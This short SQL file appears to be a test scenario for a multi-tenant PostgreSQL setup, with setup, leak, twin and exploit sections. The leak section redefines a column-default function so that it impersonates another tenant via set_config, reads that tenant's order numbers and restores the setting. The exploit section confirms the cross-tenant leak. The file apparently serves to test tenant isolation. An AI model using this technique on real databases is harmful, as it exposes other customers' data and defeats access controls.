-- A default calls a function that looks as another tenant and sets everything back.
-- object: public.peek()
-- object: public.orders
-- base: integer
--- setup
CREATE FUNCTION peek() RETURNS text LANGUAGE sql STABLE AS $$ SELECT 'a note' $$;
ALTER TABLE orders ALTER note SET DEFAULT peek();
--- leak
DROP FUNCTION peek() CASCADE;
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql AS $$
DECLARE found text; before text := current_setting('myapp.org');
BEGIN
    PERFORM set_config('myapp.org', '{B}', true);
    SELECT string_agg(number, ',') INTO found FROM orders;
    PERFORM set_config('myapp.org', before, true);
    RETURN found;
END $$;
ALTER TABLE orders ALTER note SET DEFAULT peek();
--- twin
SELECT 1;
--- exploit
INSERT INTO orders (id, org_id, number) VALUES (9001, {A}, 'mine');
SELECT note FROM orders WHERE id = 9001 AND note LIKE '%B-1%';
